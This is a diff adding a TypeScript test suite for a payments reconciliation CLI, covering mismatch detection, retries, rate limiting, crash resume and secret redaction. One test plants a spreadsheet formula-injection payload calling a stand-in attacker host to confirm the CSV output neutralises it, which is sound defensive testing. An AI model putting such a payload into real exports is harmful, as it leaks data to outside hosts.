@@ -1,0 +1,299 @@
+import { spawn } from 'node:child_process';
+import { randomUUID } from 'node:crypto';
+import { once } from 'node:events';
+import { appendFileSync, existsSync, readFileSync } from 'node:fs';
+import path from 'node:path';
+import type { Outcome } from '../../src/datasources/journal/journal';
+import { API_KEY, SECRET_KEY } from '../support/gateway';
+import { until } from '../support/latch';
+import { CHECKOUT } from '../support/program';
+import {
+  describeBooks,
+  describeSqliteBooks,
+  reportFile,
+  START,
+  TIME,
+  type CsvRow,
+} from './support/reconciling';
+import { run } from './support/run';
+
+const REJECTED: Outcome = { outcome: 'rejected', settledAt: START };
+const NOT_SENT: Outcome = { outcome: 'not_sent', settledAt: START };
+const UNKNOWN: Outcome = { outcome: 'unknown', nextRecheckAt: START };
+const HOUR_MS = 60 * 60 * 1000;
+
+/** Returns result and detail by idempotency key. */
+const resultsOf = (rows: readonly CsvRow[]): Record<string, string> =>
+  Object.fromEntries(
+    rows.map(({ idempotencyKey = '', result, detail }) => [idempotencyKey, `${result} ${detail}`.trim()]),
+  );
+
+describeBooks('reconcile', (books) => {
+  test('finds nothing and exits with 0 if every attempt agrees', async () => {
+    await books().paid();
+    await books().paid({ status: 'pending', changes: ['PENDING', 'PROCESSING', 'COMPLETED'] });
+    await books().paid({ status: 'completed' });
+    await books().paid({
+      kind: 'payout',
+      method: 'imps',
+      changes: ['PROCESSING'],
+      shows: { status: 'processing' },
+    });
+    await books().paid({
+      changes: ['PROCESSING', 'MISPAID'],
+      shows: { status: 'mispaid', amount: { currency: 'EUR', value: '10', received: '9.00' } },
+    });
+    await books().attempt({}, REJECTED);
+    await books().attempt({ kind: 'payout' }, NOT_SENT);
+    const { code, rows, err, out, file } = await books().reconcile();
+    expect({ code, err }).toEqual({ code: 0, err: '' });
+    expect(rows()).toEqual([]);
+    expect(out).toMatch(/^ +7 {2}agrees$/m);
+    expect(existsSync(`${file}.progress`)).toBe(false);
+    // One lookup for each attempt.
+    expect(books().service.requests).toHaveLength(7);
+  });
+
+  test('finds each planted difference, and exits with 1', async () => {
+    const { journal } = books();
+    const amount = { currency: 'EUR', value: '10.00' };
+    await books().paid({ key: 'agrees' });
+    await books().paid({ key: 'missing', shows: null });
+    await books().paid({ key: 'missing payout', kind: 'payout', changes: ['COMPLETED'], shows: null });
+    await books().paid({ key: 'value', shows: { amount: { ...amount, value: '10.01' } } });
+    await books().paid({ key: 'currency', shows: { amount: { ...amount, currency: 'USD' } } });
+    await books().paid({ key: 'final', changes: ['PROCESSING', 'FAILED'] });
+    await books().paid({ key: 'final at create', status: 'failed' });
+    await books().paid({ key: 'back', status: 'processing', shows: { status: 'pending' } });
+    await books().paid({ key: 'change', changes: ['PENDING', 'PROCESSING'] });
+    await books().paid({ key: 'both', status: 'failed', shows: { amount: { ...amount, value: '9.00' } } });
+    const mispaid = { status: 'mispaid', amount: { ...amount, received: '8.00' } };
+    await books().paid({ key: 'received', changes: ['PROCESSING', 'MISPAID'], shows: mispaid });
+    for (const [key, outcome] of Object.entries({ rejected: REJECTED, 'not sent': NOT_SENT })) {
+      const attempt = await books().attempt({ key }, outcome);
+      books().addTransaction(attempt, { order: attempt.externalId });
+    }
+    const payout = await books().attempt({ key: 'payout not sent', kind: 'payout' }, NOT_SENT);
+    const found = books().addTransaction(payout, { order: payout.externalId });
+    await books().attempt({ key: 'unknown' }, UNKNOWN);
+    await books().attempt({ key: 'in progress' });
+
+    const { code, rows, out } = await books().reconcile();
+    expect(code).toBe(1);
+    expect(resultsOf(rows())).toEqual({
+      missing: 'missing',
+      'missing payout': 'missing',
+      value: 'amount_differs value',
+      currency: 'amount_differs currency',
+      received: 'amount_differs received',
+      final: 'status_differs final_status_changed',
+      'final at create': 'status_differs final_status_changed',
+      back: 'status_differs status_went_back',
+      change: 'status_differs change_not_recorded',
+      both: 'amount_differs value status_differs',
+      rejected: 'unexpected recorded_as_rejected',
+      'not sent': 'unexpected recorded_as_not_sent',
+      'payout not sent': 'unexpected recorded_as_not_sent',
+      unknown: 'unknown outcome_unknown',
+      'in progress': 'unknown outcome_in_progress',
+    });
+    expect(out).toMatch(/^ +3 {2}unexpected$/m);
+    expect(rows().find(({ idempotencyKey }) => idempotencyKey === 'payout not sent')).toMatchObject({
+      attemptId: payout.id,
+      operation: 'createPayout',
+      outcome: 'not_sent',
+      transactionId: '',
+      serviceTransactionId: found,
+      serviceStatus: 'COMPLETED',
+      startedAt: new Date(payout.startedAt).toISOString(),
+    });
+    // Nothing is written to the journal.
+    expect(await journal.findById(payout.service, payout.id)).toMatchObject({ outcome: 'not_sent' });
+  });
+
+  test('expects a transaction of a rejected attempt if another attempt created it, or it is older', async () => {
+    const externalId = randomUUID();
+    const first = await books().attempt({ key: 'rejected first', externalId }, REJECTED);
+    const { transactionId } = await books().paid({ key: 'then paid', externalId });
+    books().service.update(transactionId, { order: externalId });
+    const reused = await books().attempt({ key: 'reused external id' }, NOT_SENT);
+    const earlier = new Date(reused.startedAt - 2 * HOUR_MS).toISOString();
+    books().addTransaction(reused, { order: reused.externalId, create_date: earlier });
+    const { code, rows } = await books().reconcile('--all');
+    expect({ code, first: first.externalId }).toEqual({ code: 0, first: externalId });
+    expect(resultsOf(rows())).toEqual({
+      'rejected first': 'agrees transaction_of_other_attempt',
+      'then paid': 'agrees',
+      'reused external id': 'agrees older_transaction',
+    });
+  });
+
+  test('reports an attempt as unknown if its lookup fails, and repeats failed lookups before', async () => {
+    const broken = await books().paid({ key: 'broken' });
+    const shaky = await books().paid({ key: 'shaky' });
+    const proxied = await books().paid({ key: 'proxied' });
+    const failures: string[] = [];
+    books().service.respond(({ parameters }) => {
+      const id = parameters.get('transaction_id') ?? '';
+      if (id === broken.transactionId) return { status: 400 };
+      if (id === proxied.transactionId) return { status: 404, body: '<html>' };
+      if (id !== shaky.transactionId || failures.push(id) > 4) return undefined;
+      return { status: 503, headers: { 'retry-after': '0' } };
+    });
+    const { code, rows } = await books().reconcile();
+    expect(code).toBe(1);
+    expect(resultsOf(rows())).toEqual({
+      broken: 'unknown lookup_lookup_refused',
+      proxied: 'unknown not_found_by_proxy',
+    });
+  });
+});
+
+describeSqliteBooks('reconcile', (books) => {
+  test('compares only the attempts of the time, the channel and the service', async () => {
+    await books().paid({ key: 'before', startedAt: START - 1, shows: null });
+    await books().paid({ key: 'first', startedAt: START, shows: null });
+    await books().paid({ key: 'other channel', channel: randomUUID(), shows: null });
+    await books().attempt({ key: 'other service', service: 'http://127.0.0.1:1/' }, UNKNOWN);
+    await books().paid({ key: 'end', startedAt: START + 24 * HOUR_MS, shows: null });
+    const { rows } = await books().reconcile();
+    expect(resultsOf(rows())).toEqual({ first: 'missing' });
+    const withOffset = ['--from', '2026-01-11T05:30:00+05:30', '--to', '2026-01-11T00:00:00.001Z'];
+    expect(resultsOf((await books().reconcile(...withOffset)).rows())).toEqual({ end: 'missing' });
+  });
+
+  test('accepts a status without a recorded change if transactions are not followed (FOLLOW_DAYS=0)', async () => {
+    await books().paid({ key: 'later status', changes: ['PENDING', 'PROCESSING'] });
+    await books().paid({ key: 'final status', changes: ['FAILED'] });
+    books().settings = { FOLLOW_DAYS: '0' };
+    const { rows } = await books().reconcile();
+    expect(resultsOf(rows())).toEqual({ 'final status': 'status_differs final_status_changed' });
+  });
+
+  test('writes every attempt with --all, and protects spreadsheets from formulas', async () => {
+    const externalId = '=HYPERLINK("http://evil.example/?"&A1,"x")\r\n';
+    await books().paid({ key: '+1', client: '@shop', externalId });
+    const { rows } = await books().reconcile('--all');
+    expect(rows()).toMatchObject([
+      { result: 'agrees', idempotencyKey: "'+1", client: "'@shop", externalId: `'${externalId}` },
+    ]);
+  });
+
+  test('shows its progress on a terminal only', async () => {
+    await books().paid();
+    expect(await books().reconcile()).toMatchObject({ code: 0, err: '' });
+    books().isTTY = true;
+    const { out, err } = await books().reconcile();
+    expect(err).toMatch(/^\r\u001b\[K.+\r\u001b\[K$/s);
+    expect(out).not.toContain('\r');
+  });
+
+  test('sends at most --rate lookups per second', async () => {
+    for (let count = 0; count < 24; count += 1) await books().paid();
+    const startedAt = performance.now();
+    const { code } = await books().reconcile('--rate', '20');
+    expect(code).toBe(0);
+    expect(books().service.requests).toHaveLength(24);
+    // The first tenth of a second is not waited for.
+    expect(performance.now() - startedAt).toBeGreaterThanOrEqual((23 / 20 - 0.1) * 1000);
+  });
+
+  test('prints the summary as JSON, and no secret anywhere', async () => {
+    await books().paid();
+    await books().paid({ shows: null });
+    books().service.respond(({ headers }) => ({ status: 400, json: { message: JSON.stringify(headers) } }));
+    const { out, err, file } = await books().reconcile('--json');
+    expect(JSON.parse(out)).toMatchObject({
+      checked: 2,
+      counts: { unknown: 2, agrees: 0 },
+      lookups: 4,
+      file,
+    });
+    for (const text of [out, err, readFileSync(file, 'utf8')])
+      for (const secret of [API_KEY, SECRET_KEY]) expect(text).not.toContain(secret);
+  });
+
+  test('ends with 1 during an outage of the service, and --resume then compares what is left', async () => {
+    for (let count = 0; count < 60; count += 1) await books().paid({ key: `${count} ${books().channel}` });
+    const { service } = books();
+    service.respond(() => (service.requests.length > 30 ? { status: 401 } : undefined));
+    const stopped = await books().reconcile('--all', '--rate', '500');
+    expect(stopped).toMatchObject({ code: 1, out: '' });
+    expect(stopped.err).toContain('--resume');
+    const before = stopped.rows();
+    expect(before.length).toBeGreaterThan(0);
+    expect(before.every(({ result }) => result === 'agrees')).toBe(true);
+    service.respond(() => undefined);
+    const { file } = stopped;
+    expect(await books().reconcile('--all', '--out', file)).toMatchObject({ code: 2 });
+    expect(await books().reconcile('--out', file, '--resume')).toMatchObject({ code: 2 });
+    const resumed = await books().reconcile('--all', '--out', file, '--resume');
+    expect(resumed.code).toBe(0);
+    const keys = resumed.rows().map(({ idempotencyKey }) => idempotencyKey!.split(' ')[0]);
+    expect(keys).toEqual(Array.from({ length: 60 }, (_, index) => String(index)));
+    expect(resumed.out).toMatch(/^ +60 {2}agrees$/m);
+    // The run is complete.
+    expect(await books().reconcile('--all', '--out', file, '--resume')).toMatchObject({ code: 2 });
+  });
+
+  test.each([
+    ['SIGKILL', null],
+    ['SIGINT', 130],
+  ] as const)('continues behind the last saved result after %s', async (signal, exitCode) => {
+    const keys = Array.from({ length: 80 }, (_, index) => `${index} ${signal}`);
+    for (const key of keys) await books().paid({ key });
+    const { service, channel, env } = books();
+    const file = reportFile();
+    const { PATH = '', HOME = '' } = process.env;
+    const args = ['reconcile', ...TIME, '--channel', channel, '--all', '--out', file, '--rate', '20'];
+    const options = { env: { PATH, HOME, ...env }, stdio: 'ignore' } as const;
+    const child = spawn(process.execPath, [path.join(CHECKOUT, 'bin/paygraph.mjs'), ...args], options);
+    const exited = once(child, 'exit');
+    const progress = `${file}.progress`;
+    const saved = (): number =>
+      existsSync(progress)
+        ? (JSON.parse(readFileSync(progress, 'utf8')) as { counts: { agrees: number } }).counts.agrees
+        : 0;
+    await until(() => saved() > 0);
+    child.kill(signal);
+    expect((await exited)[0]).toBe(exitCode);
+    const before = saved();
+    expect(before).toBeLessThan(80);
+    // Lines that were written after the last saved result, before a crash, are discarded.
+    appendFileSync(file, 'agrees,,create');
+    service.requests.length = 0;
+    const { code, rows } = await books().reconcile('--all', '--out', file, '--resume');
+    expect(code).toBe(0);
+    expect(rows().map(({ idempotencyKey }) => idempotencyKey)).toEqual(keys);
+    expect(service.requests).toHaveLength(80 - before);
+  });
+
+  const WRONG: [string, string[]][] = [
+    ['--from', [...TIME, '--from', 'yesterday']],
+    ['--from', [...TIME, '--from', '2026-01-10T00:00:00']],
+    ['--to', ['--from', '2026-01-10', '--to', '2026-01-10']],
+    ['--to', ['--from', '2026-01-10', '--to', '9999-01-01']],
+    ['--to', ['--from', '2026-01-10']],
+    ['--channel', [...TIME, '--channel', 'mine']],
+    ['--rate', [...TIME, '--rate', '0']],
+    ['--rate', [...TIME, '--rate', '1001']],
+    ['--rate', [...TIME, '--rate', 'fast']],
+    ['--out', [...TIME, '--out', __filename]],
+    ['cannot be opened', [...TIME, '--out', '/nowhere/near/report.csv']],
+    ['--resume', [...TIME, '--resume', '--out', reportFile()]],
+  ];
+  test.each(WRONG)('exits with 2 and sends nothing if the arguments are wrong: %s %j', async (name, args) => {
+    await books().paid();
+    const { code, out, err } = await run(['reconcile', ...args], books().env);
+    expect({ code, out }).toEqual({ code: 2, out: '' });
+    expect(err).toContain(name);
+    expect(books().service.requests).toEqual([]);
+  });
+
+  test.each(['SERVICE_BASE_URL', 'SERVICE_API_KEY'])('exits with 2 without %s', async (name) => {
+    const env = { ...books().env, [name]: '' };
+    const { code, err } = await run(['reconcile', ...TIME, '--out', reportFile()], env);
+    expect(code).toBe(2);
+    expect(err).toContain(name);
+  });
+});
